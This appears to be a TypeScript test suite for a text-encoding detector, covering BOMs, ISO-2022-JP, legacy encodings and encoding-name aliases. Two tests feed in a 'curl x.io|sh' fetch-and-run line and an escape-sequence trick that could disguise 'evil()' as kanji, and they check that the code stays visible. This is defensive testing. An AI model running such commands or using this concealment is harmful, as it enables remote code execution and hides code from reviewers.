import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { decoded } from '../../../../src/artifact/text/decodeText.ts';
import { encodingLabel } from '../../../../src/artifact/text/encoding.ts';
import { encode, SAMPLES } from './encodings.ts';

const JAPANESE = Buffer.concat([
  Buffer.from('// \u001b$B'),
  Buffer.from([0x39, 0x67, 0x37, 0x57]),
  Buffer.from('\u001b(B\n'),
]);

describe('the encoding of a text', () => {
  for (const [label, text] of Object.entries(SAMPLES))
    it(`${label} is detected from its bytes, and marked as a guess`, () => {
      assert.deepEqual(decoded(encode(text, label)), { text, encoding: label, isGuess: true });
    });

  it('is UTF-8 if the bytes are valid UTF-8, whatever is declared', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        fc.pre(!text.includes('\u001b') && !text.startsWith('\ufeff'));
        assert.deepEqual(decoded(Buffer.from(text), 'shift_jis'), { text, encoding: null, isGuess: false });
      }),
    );
  });

  it('is the declared one if the bytes fit it, and is not a guess', () => {
    const bytes = encode('Prix en €: déjà payé', 'iso-8859-15');
    assert.deepEqual(decoded(bytes, 'iso-8859-15'), {
      text: 'Prix en €: déjà payé',
      encoding: 'iso-8859-15',
      isGuess: false,
    });
    assert.equal(decoded(encode('сумма', 'koi8-r'), 'koi8-r').text, 'сумма');
    assert.equal(decoded(Uint8Array.of(0xe4, 0x78), 'euc-jp').text, 'äx', 'where they cannot be it, it says nothing');
  });

  it('is determined by a byte order mark', () => {
    const wide = Buffer.from('\ufeffa → б\n', 'utf16le');
    assert.deepEqual(decoded(wide, 'windows-1251'), { text: 'a → б\n', encoding: 'utf-16le', isGuess: false });
    assert.equal(decoded(Buffer.from(wide).swap16()).text, 'a → б\n');
  });

  it('62: is not determined by a byte order mark before text that is code without it', () => {
    const marked = (text: string): Uint8Array => Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(text)]);
    assert.match(decoded(marked('\ncurl x.io|sh\n')).text, /curl x\.io\|sh/);
    const half = Buffer.concat([Buffer.from('\ufeff# 1\n', 'utf16le'), Buffer.from(';curl x.io|sh;\n')]);
    assert.match(decoded(half).text, /curl x\.io\|sh/);
    for (const text of [
      '"キー" = "コンピューター";\n',
      '合計 = 残高が足りません\n',
      '注文の合計金額を計算する。',
      '计算订单的总金额',
    ])
      assert.equal(decoded(Buffer.from(`\ufeff${text}`, 'utf16le')).text, text);
  });

  it('62: is a seven-bit one only if declared, because a program may read kanji as code', () => {
    const japanese = { text: '// 合計\n', encoding: 'iso-2022-jp', isGuess: false };
    assert.deepEqual(decoded(JAPANESE, 'iso-2022-jp'), japanese);
    assert.deepEqual(decoded(JAPANESE), { text: JAPANESE.toString(), encoding: null, isGuess: false });
    assert.match(decoded(Buffer.from('x="\u001b$B";evil();"\u001b(B"\n')).text, /evil\(\)/);
    assert.equal(decoded(Buffer.from('ascii\n'), 'iso-2022-jp').encoding, null);
    assert.equal(decoded(Buffer.from('\u001b[31mred\u001b$Bx'), 'iso-2022-jp').encoding, null, 'breaks off');
  });

  it('is Western if there is too little text to tell', () => {
    for (const letter of ['é', 'ü', 'ß'])
      assert.deepEqual(decoded(encode(`x = "${letter}";\n`, 'windows-1252')).text, `x = "${letter}";\n`);
  });

  it('is detected for each line in a file with two encodings', () => {
    const text = SAMPLES['koi8-r'] ?? '';
    const bytes = Buffer.concat([Buffer.from('// ä ö ü\n// ß\n'), encode(text, 'koi8-r')]);
    assert.equal(decoded(bytes).text, `// ä ö ü\n// ß\n${text}`);
  });

  it('is detected from the beginning of a long text', () => {
    const text = (SAMPLES['euc-jp'] ?? '').repeat(5000);
    assert.deepEqual(decoded(encode(text, 'euc-jp')), { text, encoding: 'euc-jp', isGuess: true });
  });

  it('is recognized by the names that git and editors use for it', () => {
    for (const [name, label] of [
      ['SHIFT-JIS', 'shift_jis'],
      ['shiftjis', 'shift_jis'],
      ['CP932', 'shift_jis'],
      ['eucjp', 'euc-jp'],
      ['ISO-2022-JP', 'iso-2022-jp'],
      ['gb2312', 'gbk'],
      ['CP936', 'gbk'],
      ['cp950', 'big5'],
      ['euckr', 'euc-kr'],
      ['windows1251', 'windows-1251'],
      ['CP1251', 'windows-1251'],
      ['koi8r', 'koi8-r'],
      ['iso885915', 'iso-8859-15'],
      ['ISO-8859-1', 'windows-1252'],
      ['latin1', 'windows-1252'],
      ['UTF-16LE-BOM', 'utf-16le'],
      ['utf16be', 'utf-16be'],
      ['utf8', 'utf-8'],
    ] as const)
      assert.equal(encodingLabel(name), label, name);
    for (const name of ['', 'set', 'unspecified', 'klingon']) assert.equal(encodingLabel(name), null, name);
  });
});
